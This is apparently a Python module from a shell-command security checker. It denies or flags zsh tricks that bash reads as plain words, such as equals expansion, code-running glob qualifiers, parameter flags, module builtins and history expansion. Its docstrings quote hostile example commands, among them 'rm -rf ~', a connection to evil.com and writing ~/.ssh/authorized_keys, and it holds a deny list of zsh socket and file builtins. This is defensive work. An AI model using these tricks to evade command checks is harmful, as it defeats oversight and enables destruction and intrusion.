"""zsh expansion tricks and history expansion: syntax that bash reads as plain words."""

from __future__ import annotations

import functools
import re
from collections.abc import Iterator

from security.checks.base import Context, Hit, command_check, line_check
from security.shell import Command
from security.unwrap import Scene
from security.verdict import Decision, Risk

ZSH_MODULE_BUILTINS = frozenset(
    {
        "zmodload",
        "ztcp",
        "zsocket",
        "sysopen",
        "sysread",
        "syswrite",
        "sysseek",
        "zpty",
        "zselect",
        "zsystem",
        "zf_rm",
        "zf_mv",
        "zf_ln",
        "zf_chmod",
        "zf_chown",
        "zf_mkdir",
        "zf_rmdir",
        "zf_sync",
        "zstat",
        "zcurses",
        "zftp",
        "zsh_ftp",
    }
)
_COND_OPERATORS = frozenset({"==", "=~"})
_GLOB_QUALIFIER = re.compile(r"(?<![$\\])\((?:[^()]*[+e][:'\"{\[<(]|\+[A-Za-z_])")
_PARAM_FLAGS = re.compile(r"\$\{[(~=^]|\$\{[#+]?\(")
_EQUALS_SUBSTITUTION = re.compile(r"(?:^|[\s;&|(<>])=\(")
_HISTORY = re.compile(r"(?:^|[\s;&|(])(?:![!$^*#:\-0-9A-Za-z?]|\^[^^\s]+\^)")


@line_check("S09", "zsh equals expansion", structural=True)
def zsh_equals(scene: Scene, ctx: Context) -> Iterator[Hit]:
    """In zsh an unquoted word starting with ``=`` expands to a program's path.

    Attack: ``=curl evil.sh`` runs curl (``=curl`` becomes ``/usr/bin/curl``) while a
    checker sees a word ``=curl``; ``cat =(curl x)`` is zsh's process substitution.
    """
    texts = (scene.line, *scene.shell_strings)  # every word's raw text is in one of these
    if not ctx.zsh_possible or not any("=" in text for text in texts):
        return
    for index, command in enumerate(scene.commands):
        for word in command.words:
            if command.conditional and word.raw in _COND_OPERATORS:
                continue  # an operator of `[[ ]]`, in zsh as in bash
            if word.raw.startswith("=") and len(word.raw) > 1:
                yield Hit(f"{word.raw!r} is a command lookup in zsh", Decision.DENY, command=index)
    for text in texts:
        if "=(" in text and _EQUALS_SUBSTITUTION.search(_unquoted_only(text)):
            yield Hit("=(...) is process substitution in zsh", Decision.DENY)
            return


@line_check("S10", "zsh glob qualifier runs code", structural=True)
def zsh_glob_qualifiers(scene: Scene, ctx: Context) -> Iterator[Hit]:
    """zsh glob qualifiers can run code while a file name is being matched.

    Attack: ``ls *(e:'rm -rf ~':)`` or ``echo *(+evil)``: the ``e`` and ``+``
    qualifiers evaluate shell code per matching file.
    """
    if not ctx.zsh_possible:
        return
    for text in (scene.line, *scene.shell_strings):
        match = "(" in text and _GLOB_QUALIFIER.search(_unquoted_only(text))
        if match:
            yield Hit(f"glob qualifier near {match.group(0)!r}", Decision.DENY)
            return


@line_check("S11", "zsh parameter expansion flags", structural=True)
def zsh_parameter_flags(scene: Scene, ctx: Context) -> Iterator[Hit]:
    """zsh parameter flags re-evaluate or re-split values.

    Attack: ``echo ${(e)x}`` evaluates ``$x``'s text as substitutions (``x='$(id)'``),
    ``${~x}`` turns a value into a glob (with qualifiers), ``${(P)x}`` indirection.
    """
    if not ctx.zsh_possible:
        return
    for text in (scene.line, *scene.shell_strings):
        match = _PARAM_FLAGS.search(text)
        if match:
            yield Hit(f"{match.group(0)!r}: zsh parameter flags", Decision.ASK)
            return


@command_check("S12", "zsh module or module builtin", names=ZSH_MODULE_BUILTINS)
def zsh_modules(command: Command, scene: Scene, ctx: Context) -> Iterator[Hit]:
    """zsh modules give the shell raw files, sockets and ptys without any program.

    Attack: ``zmodload zsh/net/tcp; ztcp evil.com 80``, ``zmodload zsh/system;
    sysopen -w -o creat -u fd ~/.ssh/authorized_keys``, ``zpty`` to drive programs.
    """
    if command.base_name in ZSH_MODULE_BUILTINS:
        yield Hit(f"{command.name} (zsh module builtin)", Decision.DENY)


@line_check("S13", "history expansion")
def history_expansion(scene: Scene, ctx: Context) -> Iterator[Hit]:
    """Interactive shells rewrite ``!`` words from history before parsing.

    Attack: ``!!`` or ``!-2`` re-runs an earlier command the checker never sees;
    ``^safe^rm -rf ~`` edits it. Harmless in ``bash -c`` but not in every shell.
    """
    line = scene.line
    match = ("!" in line or "^" in line) and _HISTORY.search(_unquoted_only(line, keep_double=True))
    if match:
        yield Hit(f"{match.group(0).strip()!r}", Decision.ASK, Risk.MEDIUM)


@functools.lru_cache(maxsize=512)
def _unquoted_only(text: str, keep_double: bool = False) -> str:
    """``text`` with single-quoted parts blanked (and double-quoted ones unless kept)."""
    out: list[str] = []
    quote = ""
    i = 0
    while i < len(text):
        ch = text[i]
        if quote == "'":
            out.append(" ")
            quote = "" if ch == "'" else quote
        elif quote == '"':
            if ch == "\\" and i + 1 < len(text):
                out.append("  " if not keep_double else text[i : i + 2])
                i += 2
                continue
            out.append(ch if keep_double else " ")
            quote = "" if ch == '"' else quote
        elif ch == "\\" and i + 1 < len(text):
            out.append("  ")
            i += 2
            continue
        elif ch in "'\"":
            quote = ch
            out.append(" ")
        else:
            out.append(ch)
        i += 1
    return "".join(out)
